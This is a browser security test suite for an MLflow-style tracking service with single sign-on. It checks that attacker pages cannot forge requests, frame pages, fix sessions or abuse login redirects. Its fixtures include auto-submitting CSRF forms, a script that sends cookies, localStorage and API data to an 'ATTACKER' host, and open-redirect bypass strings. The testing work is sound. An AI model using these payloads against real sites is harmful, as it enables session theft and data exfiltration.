"""What pages of an attacker try with the browser of an administrator who is signed in.

She has a session of single sign-on, or her browser keeps her password. The attacker's pages are of
another site, or of the same host on another port: cookies and SameSite do not tell those apart from
the service's own.
"""

import contextlib
import json
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, expect

from tests import identity_provider
from tests.browser import attacker as attackers
from tests.browser.attacker import Attacker
from tests.browser.layouts import ui_folder
from tests.harness.processes import free_port, get
from tests.identity_provider import CLIENT_ID, CLIENT_SECRET, IdentityProvider, log_in
from tests.system import services

ADMIN, PASSWORD = "admin", "correct horse battery"
VICTIM, ATTACKER = "ann", "mallory"
API = "/api/2.0/mlflow"
CREATE_USER = f"{API}/users/create-ui"
CREATE_EXPERIMENT = f"{API}/experiments/create"
WHO = f"{API}/users/current"
SESSION = "tandem-session"

FORM = """<form method=post enctype="{kind}" action="{url}">{fields}</form>
<script>document.forms[0].submit()</script>"""
_USER = f"<input name=username value=planted><input name=password value='{PASSWORD}'>"
_JSON = """<input name='{"name": "planted", "ignored": "' value='"}'>"""

# Reports what each attempt came to, when all have.
FETCHES = """<script>
const say = async (name, attempt) => {
  try { const answer = await attempt(); return [name, answer.type, answer.status]; }
  catch (error) { return [name, "blocked", 0]; }
};
const change = options => fetch("URL/api/2.0/mlflow/experiments/create",
  {method: "POST", credentials: "include", body: '{"name": "planted"}', ...options});
Promise.all([
  say("json", () => change({headers: {"Content-Type": "application/json"}})),
  say("text", () => change({headers: {"Content-Type": "text/plain"}})),
  say("unread", () => change({mode: "no-cors"})),
  say("read", () => fetch("URL/api/2.0/mlflow/users/current", {credentials: "include"})),
]).then(told => { window.told = Object.fromEntries(told.map(([name, ...rest]) => [name, rest])); });
</script>"""

# What a logged file tries; whatever it gets goes to the attacker, by each way that there is.
REPORT = """<!doctype html><h1>A report</h1><p id="got"></p><script>
const send = (name, text) => {
  if (text) document.getElementById("got").append(name, " ");
  const url = "ATTACKER/stolen-" + name + "?" + encodeURIComponent(text);
  fetch(url).catch(() => 0); new Image().src = url; navigator.sendBeacon(url);
  try { open(url); } catch (error) {}
};
const steal = (name, get) => { try { send(name, get()); } catch (error) {} };
steal("cookie", () => document.cookie);
steal("parent", () => parent.document.body.innerHTML);
steal("opener", () => opener.document.cookie);
steal("storage", () => JSON.stringify(localStorage));
for (const url of ["URL/api/2.0/mlflow/users/current", "URL/api/2.0/mlflow/users/list"])
  fetch(url, {credentials: "include"}).then(answer => answer.text()).then(text => send("api", text))
    .catch(() => 0);
fetch("URL/api/2.0/mlflow/experiments/create", {method: "POST", credentials: "include",
  headers: {"Content-Type": "application/json"}, body: '{"name": "planted"}'}).catch(() => 0);
document.querySelector("h1").append(", running");
</script>"""


@dataclass(frozen=True)
class Deployment:
    """Both services with single sign-on and passwords, and their provider."""

    url: str
    artifacts_url: str
    provider: IdentityProvider

    def ask(self, path: str, **options: str) -> httpx.Response:
        """An administrator's GET."""
        return get(self.url + path, auth=(ADMIN, PASSWORD), params=options)

    def post(self, path: str, **fields: object) -> httpx.Response:
        """An administrator's POST."""
        options = {"auth": (ADMIN, PASSWORD), "trust_env": False, "verify": False}
        answer = httpx.post(self.url + path, json=fields, **options)
        return answer.raise_for_status()

    def planted(self) -> list[str]:
        """What an attack has brought about: users and experiments."""
        users = self.ask(f"{API}/users/list").json()["users"]
        experiments = self.ask(f"{API}/experiments/search", max_results="100").json()
        return [
            name
            for name in (
                *(each["username"] for each in users),
                *(each["name"] for each in experiments["experiments"]),
            )
            if name == "planted"
        ]


@pytest.fixture(scope="module")
def deployed(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]:
    directory: Path = tmp_path_factory.mktemp("attacks")
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    with ExitStack() as running:
        provider = running.enter_context(identity_provider.serve(f"{url}/oidc/callback", f"{url}/"))
        provider.set_user(VICTIM, ["admins"])
        provider.set_user(ATTACKER)
        artifacts = running.enter_context(
            services.artifacts_service(
                directory, str(directory / "files"), "--auth", "metadata", "--metadata-url", url
            )
        )
        running.enter_context(
            services.metadata_service(
                directory,
                f"sqlite:///{directory / 'mlflow.db'}",
                artifacts.url.replace("http://", "mlflow-artifacts://") + "/",
                "--ui-dir",
                str(ui_folder()),
                port=port,
                variables={
                    "TANDEM_AUTH": "oidc",
                    "TANDEM_PUBLIC_URL": url,
                    "TANDEM_OIDC_ISSUER": provider.issuer,
                    "TANDEM_OIDC_CLIENT_ID": CLIENT_ID,
                    "TANDEM_OIDC_CLIENT_SECRET": CLIENT_SECRET,
                    "TANDEM_OIDC_GROUPS_CLAIM": "groups",
                    "TANDEM_OIDC_ADMIN_GROUPS": "admins",
                    "MLFLOW_AUTH_ADMIN_PASSWORD": PASSWORD,
                },
            )
        )
        yield Deployment(url, artifacts.url, provider)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    with attackers.listening() as listening:
        yield listening


@contextmanager
def signed_in(browser: Browser, deployed: Deployment, how: str) -> Iterator[Page]:
    """A page of a fresh profile whose requests to the service are an administrator's."""
    by_password = how == "password"
    given = {"username": ADMIN, "password": PASSWORD} if by_password else None
    context = browser.new_context(http_credentials=given)
    page = context.new_page()
    if not by_password:
        _log_in(page, f"{deployed.url}/login?next=/signup")
        expect(page.get_by_role("heading", name="Create a user")).to_be_visible()
    answer = page.goto(deployed.url + WHO)
    assert answer is not None
    assert answer.json()["user"]["is_admin"]
    yield page
    context.close()


def _log_in(page: Page, address: str, name: str = VICTIM) -> None:
    """Follow the provider's forms; without them if it knows the browser."""
    page.goto(address)
    if page.locator("input[name=login]").count():
        page.locator("input[name=login]").fill(name)
        page.locator("input[name=password]").fill("any")
        page.locator("button[type=submit]").click()
        page.locator("form[action*=interaction] button[type=submit]").click()


def _session(context: BrowserContext, url: str) -> str:
    (value,) = [each["value"] for each in context.cookies(url) if each["name"] == SESSION]
    return value


def test_own_form_creates_a_user(browser: Browser, deployed: Deployment) -> None:
    """Else the other tests would show nothing."""
    with signed_in(browser, deployed, "session") as page:
        page.goto(f"{deployed.url}/signup")
        page.get_by_label("User name").fill("made by a page")
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Create").click()
        expect(page.get_by_text("'made by a page' has been created")).to_be_visible()


@pytest.mark.parametrize("place", ["elsewhere", "next_door"])
@pytest.mark.parametrize("how", ["session", "password"])
@pytest.mark.parametrize(
    ("path", "kind", "fields"),
    [
        (CREATE_USER, "application/x-www-form-urlencoded", _USER),
        (CREATE_EXPERIMENT, "text/plain", _JSON),
        ("/logout", "application/x-www-form-urlencoded", ""),
    ],
    ids=["user", "experiment", "logout"],
)
def test_form_of_another_page_changes_nothing(
    browser: Browser,
    deployed: Deployment,
    attacker: Attacker,
    place: str,
    how: str,
    path: str,
    kind: str,
    fields: str,
) -> None:
    url = deployed.url + path
    attacker.html = FORM.format(kind=kind, url=url, fields=fields)
    with signed_in(browser, deployed, how) as page:
        with page.expect_response(lambda answer: answer.url == url) as sent:
            page.goto(f"{getattr(attacker, place)}/page", wait_until="commit")
        assert sent.value.request.method == "POST"
        # Of next door: a password leaves nothing to log out of, and JSON is asked for.
        refused = {403} if how == "session" or place == "elsewhere" else {303, 400, 403}
        assert sent.value.status in refused
        assert deployed.planted() == []
        # On another page: this one may still be on its way to where a logout leads.
        answer = page.context.new_page().goto(deployed.url + WHO)
        assert answer is not None
        assert answer.status == 200


@pytest.mark.parametrize("how", ["session", "password"])
def test_script_of_another_site_changes_and_reads_nothing(
    browser: Browser, deployed: Deployment, attacker: Attacker, how: str
) -> None:
    attacker.html = FETCHES.replace("URL", deployed.url)
    with signed_in(browser, deployed, how) as page:
        page.goto(f"{attacker.elsewhere}/page")
        told = page.wait_for_function("window.told").json_value()
    assert told == {
        "json": ["blocked", 0],
        "text": ["blocked", 0],
        "unread": ["opaque", 0],
        "read": ["blocked", 0],
    }
    assert deployed.planted() == []


def test_script_from_next_door_changes_nothing_by_a_session(
    browser: Browser, deployed: Deployment, attacker: Attacker
) -> None:
    """Pages of this machine may call the API, as in MLflow; the session is not for them."""
    attacker.html = FETCHES.replace("URL", deployed.url)
    with signed_in(browser, deployed, "session") as page:
        page.goto(f"{attacker.next_door}/page")
        told = page.wait_for_function("window.told").json_value()
    assert (told["json"], told["text"]) == (["cors", 403], ["cors", 403])
    assert told["read"] == ["cors", 200]  # so the cookie was sent
    assert deployed.planted() == []


def test_script_in_a_logged_file_reads_neither_the_api_nor_cookies(
    browser: Browser, deployed: Deployment, attacker: Attacker
) -> None:
    html = REPORT.replace("URL", deployed.url).replace("ATTACKER", attacker.next_door)
    experiment = deployed.post(CREATE_EXPERIMENT, name="reports").json()["experiment_id"]
    made = deployed.post(f"{API}/runs/create", experiment_id=experiment).json()
    run = made["run"]["info"]["run_id"]
    file = f"/api/2.0/mlflow-artifacts/artifacts/{experiment}/{run}/artifacts/report.html"
    httpx.put(
        deployed.artifacts_url + file, content=html, auth=(ADMIN, PASSWORD), trust_env=False
    ).raise_for_status()
    with signed_in(browser, deployed, "session") as page:
        page.goto(f"{deployed.url}/#/experiments/{experiment}/runs/{run}/artifacts/report.html")
        frame = page.get_by_role("main").frame_locator("iframe.mlflow-html-iframe")
        expect(frame.get_by_role("heading")).to_have_text("A report, running", timeout=60_000)
        page.wait_for_timeout(1000)
        expect(frame.locator("#got")).to_be_empty()
        # By its own address it is not shown at all, so that no script of it runs.
        with page.expect_download(), contextlib.suppress(Error):
            page.goto(f"{deployed.url}/get-artifact?path=report.html&run_uuid={run}")
    assert attacker.received == []
    assert deployed.planted() == []


def test_scripts_of_the_service_s_own_pages_do_not_see_the_session(
    browser: Browser, deployed: Deployment
) -> None:
    with signed_in(browser, deployed, "session") as page:
        assert _session(page.context, deployed.url)
        assert page.evaluate("document.cookie") == ""


@pytest.mark.parametrize("place", ["elsewhere", "next_door"])
def test_pages_are_shown_in_no_frame_of_another_page(
    browser: Browser, deployed: Deployment, attacker: Attacker, place: str
) -> None:
    paths = ("/", "/signup", "/logout", "/static-files/index.html", WHO)
    frames = "".join(f"<iframe src='{deployed.url}{path}'></iframe>" for path in paths)
    attacker.html = f"{frames}<iframe src='/page-of-his-own'></iframe>"
    with signed_in(browser, deployed, "session") as page:
        page.goto(f"{getattr(attacker, place)}/page-with-frames")
        page.wait_for_load_state("load")
        shown = [frame.url for frame in page.frames if frame.parent_frame == page.main_frame]
    assert len(shown) == len(paths) + 1
    assert shown[-1].endswith("/page-of-his-own")
    # Without her cookie, a frame of another site may come to the provider's own page.
    assert [each for each in shown if each.startswith(deployed.url)] == []


def test_login_of_an_attacker_does_not_become_the_victim_s(
    browser: Browser, deployed: Deployment, attacker: Attacker
) -> None:
    """Login CSRF: what she logs would be in his account."""
    caught = []

    def stop(request: httpx.Request) -> None:
        if request.url.path == "/oidc/callback":
            caught.append(str(request.url))
            raise InterruptedError

    with (
        httpx.Client(trust_env=False, event_hooks={"request": [stop]}, timeout=30) as his,
        pytest.raises(InterruptedError),
    ):
        log_in(his, f"{deployed.url}/", ATTACKER)
    attacker.html = f"<script>location = {json.dumps(caught[0])}</script>"
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{deployed.url}/login?next=/signup")  # she has begun a login of her own
    page.goto(f"{attacker.elsewhere}/page")
    expect(page.get_by_text("begun elsewhere")).to_be_visible()
    assert [each for each in context.cookies(deployed.url) if each["name"] == SESSION] == []
    context.close()


@pytest.mark.parametrize("path", ["/", "/signup"])
def test_session_that_an_attacker_has_planted_is_not_signed_in(
    browser: Browser, deployed: Deployment, attacker: Attacker, path: str
) -> None:
    """Session fixation: a page next door sets the cookie whose value it knows, then she logs in."""
    planted = "A" * 43
    cookie = f"{SESSION}={planted}; path={path}"
    attacker.html = f"<h1>Set</h1><script>document.cookie = {json.dumps(cookie)}</script>"
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{attacker.next_door}/page")
    _log_in(page, f"{deployed.url}/login?next=/static-files/favicon.ico")
    page.wait_for_url(f"{deployed.url}/**")
    values = [each["value"] for each in context.cookies(deployed.url) if each["name"] == SESSION]
    context.close()
    assert any(each != planted for each in values)
    for value, status in ((planted, 401), *((each, 200) for each in values if each != planted)):
        answer = httpx.get(deployed.url + WHO, cookies={SESSION: value}, trust_env=False)
        assert answer.status_code == status


NEXT = (
    "{evil}/stolen", "//{host}/stolen", "/\\{host}/stolen", "/\t/{host}/stolen",
    "/%09/{host}/stolen", "\\\\{host}/stolen", "///{host}/stolen", "/\r\n/{host}/stolen",
    "javascript:location='{evil}/stolen'", "@{host}/stolen", ".{host}/stolen", "http:{host}/stolen",
)  # fmt: skip
"""What the parameter `next` of a login may say that leads elsewhere, in a browser's reading."""


def test_login_leads_to_no_other_host(
    browser: Browser, deployed: Deployment, attacker: Attacker
) -> None:
    host = attacker.elsewhere.removeprefix("http://")
    with signed_in(browser, deployed, "session") as page:
        page.route(f"{deployed.url}/static-files/**", lambda route: route.abort())
        for each in NEXT:
            address = each.format(evil=attacker.elsewhere, host=host)
            with page.expect_response(lambda answer: "/oidc/callback" in answer.url) as back:
                page.goto(f"{deployed.url}/login?next={quote(address, safe='')}")
            assert back.value.status == 303
            page.wait_for_load_state()
            assert page.url.startswith(f"{deployed.url}/"), each
    assert attacker.received == []
